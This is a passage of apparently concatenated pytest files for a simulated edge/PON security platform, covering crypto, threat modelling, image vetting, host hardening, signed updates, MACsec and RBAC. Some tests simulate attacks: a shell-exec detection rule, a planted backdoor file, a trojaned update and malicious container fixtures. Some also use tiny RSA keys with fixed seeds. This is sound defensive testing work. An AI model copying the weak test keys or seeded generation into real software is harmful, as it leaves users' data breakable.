    def test_hmac_differs_by_key(self):
        assert crypto.hmac_sha256(b"a", b"msg") != crypto.hmac_sha256(b"b", b"msg")

    def test_constant_time_equals(self):
        assert crypto.constant_time_equals(b"xy", b"xy")
        assert not crypto.constant_time_equals(b"xy", b"xz")


class TestAead:
    def test_roundtrip(self):
        blob = crypto.aead_encrypt(KEY, b"hello pon")
        assert crypto.aead_decrypt(KEY, blob) == b"hello pon"

    def test_wrong_key_rejected(self):
        blob = crypto.aead_encrypt(KEY, b"secret")
        with pytest.raises(IntegrityError):
            crypto.aead_decrypt(b"x" * 32, blob)

    def test_tampered_ciphertext_rejected(self):
        blob = bytearray(crypto.aead_encrypt(KEY, b"secret payload"))
        blob[20] ^= 0xFF
        with pytest.raises(IntegrityError):
            crypto.aead_decrypt(KEY, bytes(blob))

    def test_associated_data_is_authenticated(self):
        blob = crypto.aead_encrypt(KEY, b"data", associated_data=b"hdr1")
        with pytest.raises(IntegrityError):
            crypto.aead_decrypt(KEY, blob, associated_data=b"hdr2")

    def test_too_short_blob_rejected(self):
        with pytest.raises(IntegrityError):
            crypto.aead_decrypt(KEY, b"short")

    def test_empty_plaintext_roundtrip(self):
        blob = crypto.aead_encrypt(KEY, b"")
        assert crypto.aead_decrypt(KEY, blob) == b""

    def test_empty_key_rejected(self):
        with pytest.raises(ValueError):
            crypto.aead_encrypt(b"", b"data")

    @given(st.binary(max_size=2048), st.binary(max_size=64))
    @settings(max_examples=50, deadline=None)
    def test_roundtrip_property(self, plaintext, aad):
        blob = crypto.aead_encrypt(KEY, plaintext, associated_data=aad)
        assert crypto.aead_decrypt(KEY, blob, associated_data=aad) == plaintext

    @given(st.binary(min_size=1, max_size=256), st.integers(min_value=0))
    @settings(max_examples=50, deadline=None)
    def test_any_single_byte_flip_detected(self, plaintext, position):
        blob = bytearray(crypto.aead_encrypt(KEY, plaintext))
        blob[position % len(blob)] ^= 0x01
        with pytest.raises(IntegrityError):
            crypto.aead_decrypt(KEY, bytes(blob))


class TestRsa:
    @pytest.fixture(scope="class")
    def keypair(self):
        return crypto.RsaKeyPair.generate(bits=512, seed=42)

    def test_sign_verify(self, keypair):
        sig = keypair.sign(b"onie-image-v2")
        assert keypair.public.verify(b"onie-image-v2", sig)

    def test_signature_fails_on_other_data(self, keypair):
        sig = keypair.sign(b"original")
        assert not keypair.public.verify(b"tampered", sig)

    def test_signature_fails_under_other_key(self, keypair):
        other = crypto.RsaKeyPair.generate(bits=512, seed=43)
        sig = keypair.sign(b"payload")
        assert not other.public.verify(b"payload", sig)

    def test_deterministic_generation(self):
        a = crypto.RsaKeyPair.generate(bits=256, seed=7)
        b = crypto.RsaKeyPair.generate(bits=256, seed=7)
        assert a.public.n == b.public.n

    def test_fingerprint_stable_and_short(self, keypair):
        assert keypair.public.fingerprint() == keypair.public.fingerprint()
        assert len(keypair.public.fingerprint()) == 16

    def test_garbage_signature_rejected(self, keypair):
        assert not keypair.public.verify(b"data", b"\x00" * 64)
        assert not keypair.public.verify(b"data", b"\xff" * 200)

    def test_key_too_small_rejected(self):
        with pytest.raises(ValueError):
            crypto.RsaKeyPair.generate(bits=64)


class TestKeyWrapping:
    def test_wrap_unwrap_roundtrip(self):
        keypair = crypto.RsaKeyPair.generate(bits=512, seed=5)
        secret = crypto.random_key()
        wrapped, check = crypto.wrap_key(keypair.public, secret)
        assert crypto.unwrap_key(keypair, wrapped, check, key_len=len(secret)) == secret

    def test_unwrap_with_wrong_key_fails(self):
        alice = crypto.RsaKeyPair.generate(bits=512, seed=5)
        mallory = crypto.RsaKeyPair.generate(bits=512, seed=6)
        secret = crypto.random_key()
        wrapped, check = crypto.wrap_key(alice.public, secret)
        with pytest.raises((IntegrityError, OverflowError)):
            crypto.unwrap_key(mallory, wrapped % mallory.public.n, check,
                              key_len=len(secret))

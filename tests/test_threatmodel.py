"""Unit tests for the STRIDE threat-model engine and GENIO catalog."""

import pytest

from repro.common.errors import NotFoundError
from repro.security.threatmodel import (
    Asset, GENIO_MITIGATIONS, GENIO_THREATS, Layer, RiskLevel, Stride, Threat,
    ThreatModel, build_genio_threat_model, coverage_matrix, render_matrix,
)
from repro.security.threatmodel.catalog import mitigations_by_id
from repro.security.threatmodel.matrix import tools_per_layer, uncovered_threats


class TestStrideEngine:
    def test_add_and_query_threats(self):
        model = ThreatModel()
        model.add_asset(Asset("db", Layer.APPLICATION))
        model.add_threat(Threat(
            "X1", "test", Layer.APPLICATION,
            stride=(Stride.TAMPERING,), description="d", assets=("db",)))
        assert model.threat("X1").name == "test"
        assert model.threats(layer=Layer.APPLICATION)
        assert model.threats(stride=Stride.TAMPERING)
        assert model.threats(stride=Stride.SPOOFING) == []

    def test_unknown_asset_rejected(self):
        model = ThreatModel()
        with pytest.raises(NotFoundError):
            model.add_threat(Threat("X1", "t", Layer.APPLICATION,
                                    stride=(), description="", assets=("ghost",)))

    def test_missing_lookups(self):
        model = ThreatModel()
        with pytest.raises(NotFoundError):
            model.threat("T99")
        with pytest.raises(NotFoundError):
            model.asset("ghost")

    def test_risk_scoring(self):
        low = Threat("A", "a", Layer.APPLICATION, (), "", likelihood=1, impact=1)
        critical = Threat("B", "b", Layer.APPLICATION, (), "",
                          likelihood=4, impact=4)
        assert low.risk_level is RiskLevel.LOW
        assert critical.risk_level is RiskLevel.CRITICAL
        assert critical.risk_score == 16

    def test_ranked_by_risk_deterministic(self):
        model = build_genio_threat_model()
        ranked = model.ranked_by_risk()
        scores = [t.risk_score for t in ranked]
        assert scores == sorted(scores, reverse=True)


class TestGenioCatalog:
    def test_eight_threats_and_eighteen_mitigations(self):
        assert len(GENIO_THREATS) == 8
        assert len(GENIO_MITIGATIONS) == 18
        assert [t.threat_id for t in GENIO_THREATS] == [f"T{i}" for i in range(1, 9)]
        assert [m.mitigation_id for m in GENIO_MITIGATIONS] == [
            f"M{i}" for i in range(1, 19)]

    def test_every_threat_is_mitigated(self):
        assert uncovered_threats() == []
        assert build_genio_threat_model().unmitigated() == []

    def test_every_mitigation_references_a_real_threat(self):
        threat_ids = {t.threat_id for t in GENIO_THREATS}
        for mitigation in GENIO_MITIGATIONS:
            assert set(mitigation.threat_ids) <= threat_ids

    def test_mitigation_links_are_bidirectional(self):
        by_id = mitigations_by_id()
        for threat in GENIO_THREATS:
            for mitigation_id in threat.mitigation_ids:
                assert threat.threat_id in by_id[mitigation_id].threat_ids

    def test_every_mitigation_module_imports(self):
        import importlib
        for mitigation in GENIO_MITIGATIONS:
            importlib.import_module(mitigation.module)

    def test_layers_cover_the_three_paper_levels(self):
        model = build_genio_threat_model()
        for layer in Layer:
            assert model.threats(layer=layer), f"no threats at {layer}"
            assert model.assets(layer=layer), f"no assets at {layer}"

    def test_threats_against_asset(self):
        model = build_genio_threat_model()
        kube_threats = {t.threat_id for t in model.threats_against("Kubernetes")}
        assert {"T5", "T6"} <= kube_threats

    def test_stride_coverage_nonzero_for_core_categories(self):
        coverage = build_genio_threat_model().stride_coverage()
        assert coverage[Stride.ELEVATION_OF_PRIVILEGE] >= 4
        assert coverage[Stride.TAMPERING] >= 4


class TestFigure3Matrix:
    def test_matrix_rows_cover_all_pairs(self):
        rows = coverage_matrix()
        pairs = {(r.threat_id, r.mitigation_id) for r in rows}
        expected = {(t.threat_id, m) for t in GENIO_THREATS
                    for m in t.mitigation_ids}
        assert pairs == expected

    def test_rendered_matrix_mentions_key_tools(self):
        rendered = render_matrix()
        for tool in ("OpenSCAP", "MACsec", "Tripwire", "kube-bench",
                     "Trivy", "Falco", "KubeArmor"):
            assert tool in rendered

    def test_tools_per_layer_structure(self):
        per_layer = tools_per_layer()
        assert set(per_layer) == {"Infrastructure", "Middleware", "Application"}
        assert "ONIE" in per_layer["Infrastructure"]
        assert "kube-hunter" in per_layer["Middleware"]
        assert "CATS" in per_layer["Application"]

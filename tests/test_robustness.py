"""Robustness tests: broken monitoring rules, splitter capacity, CRA CLI."""

import pytest

from repro.common.errors import CapacityError
from repro.platform.workloads import ml_inference_image
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.security.monitor import FalcoEngine
from repro.security.monitor.falco import FalcoRule, Priority
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime


class TestBrokenRuleIsolation:
    def test_raising_rule_does_not_break_mediation(self):
        broken = FalcoRule(
            name="operator_typo",
            description="a tuned rule with a bug",
            topics=("runtime.syscall",),
            condition=lambda e: 1 / 0)   # raises on every event
        shell = FalcoRule(
            name="shell",
            description="shell exec",
            topics=("runtime.syscall",),
            condition=lambda e: e.get("path") == "/bin/sh",
            priority=Priority.WARNING)
        engine = FalcoEngine(rules=[broken, shell])
        runtime = ContainerRuntime("n")
        engine.attach(runtime.bus)
        container = runtime.run(ContainerSpec(image=ml_inference_image()))

        # Mediation keeps working, the healthy rule still fires...
        record = runtime.syscall(container.id, "execve", path="/bin/sh")
        assert record.allowed is True
        assert engine.alerts_by_rule().get("shell") == 1
        # ...and the broken rule's failures are accounted, not silent.
        assert engine.rule_errors["operator_typo"] >= 1

    def test_rule_errors_do_not_create_alerts(self):
        broken = FalcoRule("b", "d", ("runtime.syscall",),
                           condition=lambda e: e["missing"])  # KeyError? no - Event not subscriptable
        engine = FalcoEngine(rules=[broken])
        runtime = ContainerRuntime("n")
        engine.attach(runtime.bus)
        container = runtime.run(ContainerSpec(image=ml_inference_image()))
        runtime.syscall(container.id, "read", path="/x")
        assert engine.alerts == []
        assert engine.rule_errors.get("b")


class TestSplitterCapacity:
    def test_split_ratio_enforced(self):
        network = PonNetwork.build()
        network.olt.ports[0].split_ratio = 3
        for i in range(3):
            network.attach_onu(Onu(f"ONU-{i}"))
        with pytest.raises(CapacityError):
            network.attach_onu(Onu("ONU-overflow"))

    def test_reactivation_does_not_consume_capacity(self):
        network = PonNetwork.build()
        network.olt.ports[0].split_ratio = 1
        onu = Onu("ONU-A")
        network.attach_onu(onu)
        onu.activated = False
        network.olt.activate_onu(0, onu)     # same serial: rejoin is fine
        assert onu.activated

    def test_capacity_rejection_is_logged(self):
        network = PonNetwork.build()
        network.olt.ports[0].split_ratio = 1
        network.attach_onu(Onu("ONU-A"))
        with pytest.raises(CapacityError):
            network.attach_onu(Onu("ONU-B"))
        last = network.olt.activation_log[-1]
        assert not last.accepted and "splitter" in last.reason


class TestCraCli:
    def test_cra_all(self, capsys):
        from repro.__main__ import main
        assert main(["cra"]) == 0
        out = capsys.readouterr().out
        assert "12/12 satisfied" in out

    def test_cra_none_fails(self, capsys):
        from repro.__main__ import main
        assert main(["cra", "--mitigations", "none"]) == 1
        assert "MISS" in capsys.readouterr().out

    def test_cra_subset(self, capsys):
        from repro.__main__ import main
        exit_code = main(["cra", "--mitigations", "M3,M6"])
        out = capsys.readouterr().out
        assert exit_code == 1
        assert "[OK  ] CRA-4" in out   # encryption requirement satisfied

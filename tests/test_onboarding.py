"""Tests for the publication gate and onboarding workflow."""

import pytest

from repro.common.errors import IntegrityError, QuarantineError
from repro.platform.onboarding import OnboardingService, PublicationGate
from repro.platform.workloads import (
    iot_analytics_image, legacy_java_billing_image, malicious_miner_image,
    ml_inference_image, telemetry_gateway_image, vulnerable_webapp_image,
)
from repro.security.vulnmgmt import build_cve_corpus
from repro.security.vulnmgmt.cvedb import Severity


@pytest.fixture
def gate():
    return PublicationGate(build_cve_corpus())


@pytest.fixture
def service():
    return OnboardingService()


class TestPublicationGate:
    def test_clean_image_admitted(self, gate):
        verdict = gate.evaluate(ml_inference_image())
        assert verdict.admitted
        assert verdict.blocking_findings == []

    def test_malware_always_blocks(self, gate):
        verdict = gate.evaluate(malicious_miner_image())
        assert not verdict.admitted
        assert any(f.stage == "malware" for f in verdict.blocking_findings)

    def test_vulnerable_webapp_blocked_on_multiple_stages(self, gate):
        verdict = gate.evaluate(vulnerable_webapp_image())
        assert not verdict.admitted
        stages = {f.stage for f in verdict.blocking_findings}
        assert {"sca", "sast", "dast", "config"} <= stages

    def test_lesson7_unused_dependency_blocks_anyway(self, gate):
        verdict = gate.evaluate(iot_analytics_image())
        assert not verdict.admitted
        unused_blockers = [f for f in verdict.blocking_findings
                           if "never imported" in f.detail]
        assert unused_blockers    # the noise costs real publishes

    def test_non_rest_image_gets_dast_advisory(self, gate):
        verdict = gate.evaluate(legacy_java_billing_image())
        dast = [f for f in verdict.findings if f.stage == "dast"]
        assert dast and not dast[0].blocking
        assert "not fuzzable" in dast[0].detail

    def test_root_user_is_advisory_not_blocking(self, gate):
        verdict = gate.evaluate(legacy_java_billing_image())
        root = [f for f in verdict.advisories if "root" in f.detail]
        assert root

    def test_severity_threshold_configurable(self):
        lenient = PublicationGate(build_cve_corpus(),
                                  block_at=Severity.CRITICAL)
        verdict = lenient.evaluate(telemetry_gateway_image())
        # celery 5.0.0 CVE is HIGH -> advisory under a CRITICAL-only gate;
        # but the DAST auth-bypass still blocks.
        sca_blockers = [f for f in verdict.blocking_findings
                        if f.stage == "sca"]
        assert sca_blockers == []


class TestOnboardingService:
    def test_submit_and_verified_pull(self, service):
        image = ml_inference_image()
        verdict = service.submit(image, publisher="acme")
        assert verdict.admitted
        pulled = service.pull_verified(image.reference)
        assert pulled is image

    def test_rejected_image_never_reaches_registry(self, service):
        with pytest.raises(QuarantineError):
            service.submit(malicious_miner_image(), publisher="freebie")
        assert service.registry.catalog() == []

    def test_unsigned_sideload_fails_verified_pull(self, service):
        sneaky = vulnerable_webapp_image()
        service.registry.publish(sneaky, publisher="sideload")  # no signature
        with pytest.raises(IntegrityError):
            service.pull_verified(sneaky.reference)

    def test_verdicts_recorded_for_audit(self, service):
        service.submit(ml_inference_image(), publisher="acme")
        try:
            service.submit(malicious_miner_image(), publisher="freebie")
        except QuarantineError:
            pass
        assert len(service.verdicts) == 2
        assert [v.admitted for v in service.verdicts] == [True, False]

    def test_tampered_registry_image_fails_pull(self, service):
        image = ml_inference_image()
        service.submit(image, publisher="acme")
        service.registry.tamper(image.reference, "/app/backdoor.py", b"evil")
        with pytest.raises(IntegrityError):
            service.pull_verified(image.reference)

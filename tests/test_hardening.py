"""Unit tests for M1/M2 hardening engines."""

import pytest

from repro.osmodel.host import Host
from repro.osmodel.kernel import stock_onl_kernel
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.security.hardening import (
    KernelHardeningChecker, Severity, harden_host, harden_kernel,
    onl_scap_profile, stig_profile,
)
from repro.security.hardening.kernelcheck import MODULE_BLACKLIST


class TestScapProfile:
    def test_stock_onl_fails_broadly(self):
        report = onl_scap_profile().evaluate(stock_onl_olt_host())
        assert report.pass_rate < 0.2
        assert report.failures(Severity.HIGH)

    def test_remediation_fixes_all_automated_rules(self):
        host = stock_onl_olt_host()
        profile = onl_scap_profile()
        applied = profile.remediate(host)
        assert applied
        report = profile.evaluate(host)
        assert report.pass_rate == 1.0

    def test_remediation_is_idempotent(self):
        host = stock_onl_olt_host()
        profile = onl_scap_profile()
        profile.remediate(host)
        assert profile.remediate(host) == []

    def test_ssh_rules_specifically(self):
        host = stock_onl_olt_host()
        profile = onl_scap_profile()
        profile.remediate(host)
        sshd = host.services.get("sshd")
        assert sshd.config["PermitRootLogin"] == "no"
        assert sshd.config["PasswordAuthentication"] == "no"
        assert "cbc" not in sshd.config["Ciphers"]

    def test_untrusted_apt_lines_removed(self):
        host = stock_onl_olt_host()
        onl_scap_profile().remediate(host)
        content = host.fs.read("/etc/apt/sources.list").decode()
        assert "sketchy" not in content and "[trusted=yes]" not in content
        assert "deb.debian.org" in content  # legitimate line kept

    def test_essential_services_survive(self):
        host = stock_onl_olt_host()
        onl_scap_profile().remediate(host)
        assert host.services.get("ovs-vswitchd").running
        assert host.services.get("onlpd").running
        assert "telnetd" not in host.services

    def test_passwordless_accounts_locked(self):
        host = stock_onl_olt_host()
        onl_scap_profile().remediate(host)
        assert host.users.passwordless_sudoers() == []
        diag = host.users.get("diag")
        assert diag.login_disabled

    def test_cloud_host_mostly_passes_already(self):
        report = onl_scap_profile().evaluate(cloud_host())
        assert report.pass_rate > 0.7


class TestStigProfile:
    def test_manual_rules_stay_failed_after_remediation(self):
        host = stock_onl_olt_host()
        profile = stig_profile()
        profile.remediate(host)
        report = profile.evaluate(host)
        failed_ids = {r.rule_id for r in report.failures()}
        # Encryption/secure-boot need the integrity pipeline, not SCAP.
        assert "STIG-ENC-01" in failed_ids
        assert "STIG-BOOT-01" in failed_ids
        assert all(not r.automated for r in report.failures())

    def test_automated_stig_rules_fixed(self):
        host = stock_onl_olt_host()
        profile = stig_profile()
        profile.remediate(host)
        report = profile.evaluate(host)
        passed_ids = {r.rule_id for r in report.results if r.passed}
        assert {"STIG-ACC-01", "STIG-SSH-01", "STIG-LOG-01",
                "STIG-BOOT-02"} <= passed_ids


class TestKernelChecker:
    def test_stock_kernel_fails(self):
        report = KernelHardeningChecker().check(stock_onl_kernel())
        assert report.pass_rate < 0.3
        planes = {f.plane for f in report.failures()}
        assert {"kconfig", "cmdline", "sysctl", "module", "lsm"} <= planes

    def test_harden_kernel_respects_sdn(self):
        kernel = stock_onl_kernel()
        unappliable = harden_kernel(kernel)
        assert unappliable == ["CONFIG_BPF_SYSCALL"]
        assert kernel.kconfig_enabled("CONFIG_BPF_SYSCALL")  # still on
        assert not kernel.kexec_enabled
        assert kernel.stack_protector
        assert kernel.lsm == "apparmor"
        assert not (set(MODULE_BLACKLIST) & kernel.loaded_modules)

    def test_hardened_kernel_near_perfect(self):
        kernel = stock_onl_kernel()
        harden_kernel(kernel)
        report = KernelHardeningChecker().check(kernel)
        assert report.pass_rate > 0.9
        assert [f.key for f in report.failures()] == ["CONFIG_BPF_SYSCALL"]

    def test_microcode_applied(self):
        kernel = stock_onl_kernel()
        harden_kernel(kernel, microcode_revision=50)
        assert kernel.microcode_revision == 50


class TestHardenHost:
    def test_full_pass_improves_everything(self):
        host = stock_onl_olt_host()
        summary = harden_host(host)
        assert summary.improvement > 0.5
        for profile, rate in summary.pass_rate_after.items():
            assert rate > summary.pass_rate_before[profile], profile
        assert summary.pass_rate_after["onl-scap"] == 1.0
        assert summary.sdn_conflicts == ["CONFIG_BPF_SYSCALL"]
        assert summary.manual_rules  # STIG leftovers

    def test_hardening_twice_is_stable(self):
        host = stock_onl_olt_host()
        harden_host(host)
        second = harden_host(host)
        assert second.applied_rules == []
        assert second.improvement == pytest.approx(0.0)

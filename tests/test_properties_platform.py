"""Property-based tests over platform-level invariants."""

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from repro.common.errors import CapacityError
from repro.platform import build_genio_deployment, ml_inference_image
from repro.platform.genio import LAYER_LATENCY_MS
from repro.platform.placement import LayerPlacer, WorkloadRequirement
from repro.security.threatmodel.regulatory import assess_cra_readiness
from repro.security.threatmodel.risk import ALL_MITIGATIONS, assess_residual_risk


class TestPlacementProperties:
    @given(latency=st.floats(min_value=0.5, max_value=200.0),
           cpu=st.floats(min_value=0.1, max_value=1.0))
    @settings(max_examples=25, deadline=None)
    def test_placements_always_satisfy_latency_bound(self, latency, cpu):
        # Fresh deployment per example: placements must not share capacity
        # across hypothesis examples or the property becomes stateful.
        deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
        placer = LayerPlacer(deployment)
        try:
            placement = placer.place(WorkloadRequirement(
                "w", ml_inference_image(), "tenant-a",
                max_latency_ms=latency, cpu_cores=cpu, memory_mb=128))
        except CapacityError:
            # Only legitimate when no layer's latency qualifies.
            assert latency < min(LAYER_LATENCY_MS.values())
            return
        assert placement.latency_ms <= latency
        assert placement.layer in LAYER_LATENCY_MS


class TestRiskProperties:
    _mitigation_sets = st.sets(st.sampled_from(ALL_MITIGATIONS), max_size=18)

    @given(_mitigation_sets)
    @settings(max_examples=60, deadline=None)
    def test_residual_never_exceeds_inherent(self, applied):
        for assessment in assess_residual_risk(sorted(applied)):
            assert 0 <= assessment.residual_score <= assessment.inherent_score

    @given(_mitigation_sets, st.sampled_from(ALL_MITIGATIONS))
    @settings(max_examples=60, deadline=None)
    def test_adding_a_mitigation_never_increases_risk(self, applied, extra):
        base = {a.threat_id: a.residual_score
                for a in assess_residual_risk(sorted(applied))}
        more = {a.threat_id: a.residual_score
                for a in assess_residual_risk(sorted(applied | {extra}))}
        for threat_id, score in more.items():
            assert score <= base[threat_id] + 1e-9

    @given(_mitigation_sets, st.sampled_from(ALL_MITIGATIONS))
    @settings(max_examples=60, deadline=None)
    def test_cra_satisfaction_is_monotone(self, applied, extra):
        order = {"unsatisfied": 0, "partial": 1, "satisfied": 2}
        base = {s.requirement.req_id: order[s.state]
                for s in assess_cra_readiness(sorted(applied)).statuses}
        more = {s.requirement.req_id: order[s.state]
                for s in assess_cra_readiness(sorted(applied | {extra})).statuses}
        for req_id, level in more.items():
            assert level >= base[req_id]

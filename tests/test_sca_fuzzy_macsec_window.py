"""Tests for SCA fuzzy misidentification and the MACsec replay window."""

import pytest

from repro.common.errors import IntegrityError
from repro.platform.workloads import iot_analytics_image, ml_inference_image
from repro.pon.frames import Frame
from repro.pon.macsec import MacsecChannel
from repro.security.appsec.sca import ScaScanner, _normalize_name
from repro.security.vulnmgmt import build_cve_corpus


class TestFuzzyIdentification:
    def test_normalization_stems(self):
        assert _normalize_name("python3-urllib3") == "urllib"
        assert _normalize_name("urllib3") == "urllib"
        assert _normalize_name("python-jinja") == "jinja"
        assert _normalize_name("jinja2") == "jinja"
        assert _normalize_name("urllib3-mirror") == "urllib"

    def test_exact_scanner_misses_renamed_package(self):
        scanner = ScaScanner(build_cve_corpus())
        report = scanner.scan(iot_analytics_image())
        assert not any(f.package.name == "python-jinja"
                       for f in report.findings)

    def test_fuzzy_scanner_matches_but_flags_misidentification(self):
        scanner = ScaScanner(build_cve_corpus(), fuzzy_identification=True)
        report = scanner.scan(iot_analytics_image())
        fuzzy_hits = [f for f in report.findings
                      if f.package.name == "python-jinja"]
        assert fuzzy_hits
        assert all(f.misidentified for f in fuzzy_hits)
        # Misidentified findings count as noise, never as actionable:
        assert not any(f.misidentified for f in report.actionable)
        assert any(f.misidentified for f in report.noise)

    def test_fuzzy_mode_never_duplicates_exact_hits(self):
        exact = ScaScanner(build_cve_corpus())
        fuzzy = ScaScanner(build_cve_corpus(), fuzzy_identification=True)
        image = iot_analytics_image()
        exact_ids = {(f.package.name, f.cve.cve_id)
                     for f in exact.scan(image).findings}
        fuzzy_ids = {(f.package.name, f.cve.cve_id)
                     for f in fuzzy.scan(image).findings}
        assert exact_ids <= fuzzy_ids
        assert len(fuzzy_ids) == len(fuzzy.scan(image).findings)

    def test_clean_image_stays_clean_under_fuzzy(self):
        scanner = ScaScanner(build_cve_corpus(), fuzzy_identification=True)
        assert scanner.scan(ml_inference_image()).findings == []


class TestMacsecReplayWindow:
    def _protected(self, sender, n):
        return [sender.protect(Frame("a", "b", payload=f"m{i}".encode()))
                for i in range(n)]

    def test_strict_mode_rejects_reorder(self):
        sak = b"k" * 32
        sender = MacsecChannel(sak)
        receiver = MacsecChannel(sak, replay_window=0)
        f1, f2 = self._protected(sender, 2)
        receiver.validate(f2)
        with pytest.raises(IntegrityError):
            receiver.validate(f1)

    def test_window_accepts_bounded_reorder_once(self):
        sak = b"k" * 32
        sender = MacsecChannel(sak)
        receiver = MacsecChannel(sak, replay_window=4)
        f1, f2, f3 = self._protected(sender, 3)
        receiver.validate(f3)
        assert receiver.validate(f1).payload == b"m0"   # late but in window
        with pytest.raises(IntegrityError):
            receiver.validate(f1)                        # replay still caught
        assert receiver.stats.replayed == 1

    def test_frames_outside_window_rejected(self):
        sak = b"k" * 32
        sender = MacsecChannel(sak)
        receiver = MacsecChannel(sak, replay_window=2)
        frames = self._protected(sender, 6)
        receiver.validate(frames[5])                     # pn=6
        with pytest.raises(IntegrityError):
            receiver.validate(frames[0])                 # pn=1, way late
        assert receiver.validate(frames[4]).payload == b"m4"  # pn=5, in window

    def test_window_state_pruned_as_pn_advances(self):
        sak = b"k" * 32
        sender = MacsecChannel(sak)
        receiver = MacsecChannel(sak, replay_window=2)
        frames = self._protected(sender, 50)
        for frame in frames:
            receiver.validate(frame)
        assert len(receiver._accepted_in_window) <= 3

    def test_negative_window_rejected(self):
        with pytest.raises(ValueError):
            MacsecChannel(b"k" * 32, replay_window=-1)

"""Unit tests for M9 signed updates and M10/M11 access control."""

import pytest

from repro.common import crypto
from repro.common.errors import (
    AuthenticationError, AuthorizationError, IntegrityError,
)
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import Namespace, PodSecurityContext, PodSpec
from repro.orchestrator.kube.rbac import Subject, permissive_default_rbac
from repro.orchestrator.proxmox import ProxmoxCluster, PveUser
from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.sdn.controller import ApiCapability, SdnController
from repro.sdn.voltha import VolthaCore
from repro.security.access import (
    ComplianceSuite, docker_bench, genio_least_privilege_rbac,
    harden_proxmox, harden_sdn_controller, harden_voltha,
    kube_bench, kube_hunter, kubescape, kubesec, tighten_cluster,
)
from repro.security.comms.pki import CertificateAuthority
from repro.security.integrity.secureboot import SecureBootProvisioner
from repro.security.updates import (
    BinaryDistributor, OnieImage, OnieInstaller, sign_onie_image,
    verify_and_install,
)
from repro.virt.hypervisor import Hypervisor
from repro.virt.image import ContainerImage
from repro.virt.runtime import ContainerRuntime
from repro.virt.vm import VmSpec


@pytest.fixture
def ca():
    return CertificateAuthority()


class TestOnieUpdates:
    @pytest.fixture
    def setup(self, ca):
        host = stock_onl_olt_host()
        provisioner = SecureBootProvisioner()
        provisioner.provision(host)
        provisioner.record_golden_state(host)
        signer_kp, signer_cert = ca.enroll_device("genio-release-engineering",
                                                  seed=0xE1)
        image = OnieImage("onl-update", "4.19.0-onl-p3",
                          payload=b"ONL-KERNEL-IMAGE-p3")
        sign_onie_image(image, signer_kp, signer_cert)
        installer = OnieInstaller(ca)
        return host, provisioner, installer, image, signer_kp

    def test_signed_update_applies(self, setup):
        host, provisioner, installer, image, _ = setup
        result = installer.apply_update(host, image,
                                        mok_signer=provisioner.operator_mok)
        assert result.applied
        assert host.kernel.version == "4.19.0-onl-p3"
        assert host.boot().booted   # new kernel is MOK-signed

    def test_tampered_payload_rejected(self, setup):
        host, _, installer, image, _ = setup
        image.payload += b"<TROJAN>"
        result = installer.apply_update(host, image)
        assert not result.applied
        assert result.stage_reached == "verification"

    def test_unsigned_image_rejected(self, setup):
        host, _, installer, _, _ = setup
        naked = OnieImage("onl-update", "9.9", payload=b"X")
        assert not installer.apply_update(host, naked).applied

    def test_untrusted_signer_rejected(self, setup, ca):
        host, _, installer, _, _ = setup
        rogue_kp, rogue_cert = ca.enroll_device("random-developer", seed=0xBAD)
        image = OnieImage("onl-update", "6.6.6", payload=b"EVIL")
        sign_onie_image(image, rogue_kp, rogue_cert)
        result = installer.apply_update(host, image)
        assert not result.applied
        assert "release engineering" in result.detail

    def test_revoked_signer_rejected(self, setup, ca):
        host, _, installer, image, _ = setup
        ca.revoke(image.signer_certificate.serial)
        assert not installer.apply_update(host, image).applied


class TestBinaryDistribution:
    def test_signed_binary_installs(self, ca):
        host = cloud_host()
        distributor = BinaryDistributor(ca)
        binary = distributor.publish("genio-telemetryd", "1.2",
                                     b"TELEMETRY-DAEMON",
                                     "/usr/sbin/genio-telemetryd")
        verify_and_install(host, binary, ca)
        assert host.fs.read("/usr/sbin/genio-telemetryd") == b"TELEMETRY-DAEMON"

    def test_tampered_binary_rejected(self, ca):
        host = cloud_host()
        distributor = BinaryDistributor(ca)
        binary = distributor.publish("d", "1", b"GOOD", "/usr/sbin/d")
        binary.payload = b"EVIL"
        with pytest.raises(IntegrityError):
            verify_and_install(host, binary, ca)
        assert not host.fs.exists("/usr/sbin/d")

    def test_unsigned_binary_rejected(self, ca):
        from repro.security.updates.binaries import SignedBinary
        host = cloud_host()
        binary = SignedBinary("x", "1", b"payload", "/usr/sbin/x")
        with pytest.raises(IntegrityError):
            verify_and_install(host, binary, ca)


class TestLeastPrivilege:
    def test_tenant_confined_after_m10(self):
        rbac = genio_least_privilege_rbac()
        sa = Subject("ServiceAccount", "tenant-a:default")
        assert rbac.authorize(sa, "get", "configmaps", "tenant-a")
        assert not rbac.authorize(sa, "get", "secrets", "tenant-a")
        assert not rbac.authorize(sa, "get", "configmaps", "tenant-b")
        assert not rbac.authorize(sa, "create", "pods", "tenant-a")

    def test_deployer_can_manage_own_namespace_only(self):
        rbac = genio_least_privilege_rbac()
        deployer = Subject("ServiceAccount", "tenant-a:deployer")
        assert rbac.authorize(deployer, "create", "deployments", "tenant-a")
        assert not rbac.authorize(deployer, "create", "deployments", "tenant-b")
        assert not rbac.authorize(deployer, "create", "rolebindings", "tenant-a")

    def test_operator_cannot_read_tenant_secrets(self):
        rbac = genio_least_privilege_rbac()
        operator = Subject("User", "ops-alice")
        assert rbac.authorize(operator, "delete", "pods", "kube-system")
        assert rbac.authorize(operator, "list", "pods", "tenant-a")
        assert not rbac.authorize(operator, "get", "secrets", "tenant-a")

    def test_tighten_cluster_flips_config(self):
        cluster = KubeCluster(rbac=permissive_default_rbac())
        tighten_cluster(cluster)
        config = cluster.api.config
        assert not config.anonymous_auth
        assert config.authorization_mode == "RBAC"
        assert config.audit_logging and config.etcd_encryption
        assert "PodSecurity" in config.admission_plugins

    def test_pod_security_admission_blocks_privileged_tenant_pod(self):
        cluster = KubeCluster()
        cluster.add_namespace(Namespace("tenant-a"))
        tighten_cluster(cluster)
        cluster.api.register_token("tok",
                                   Subject("ServiceAccount", "tenant-a:deployer"))
        image = ContainerImage(name="x")
        bad = PodSpec(name="p", namespace="tenant-a", image=image,
                      security=PodSecurityContext(privileged=True))
        with pytest.raises(AuthorizationError):
            cluster.api.request("tok", "create", "pods", "tenant-a", "p", obj=bad)
        good = PodSpec(name="p", namespace="tenant-a", image=image)
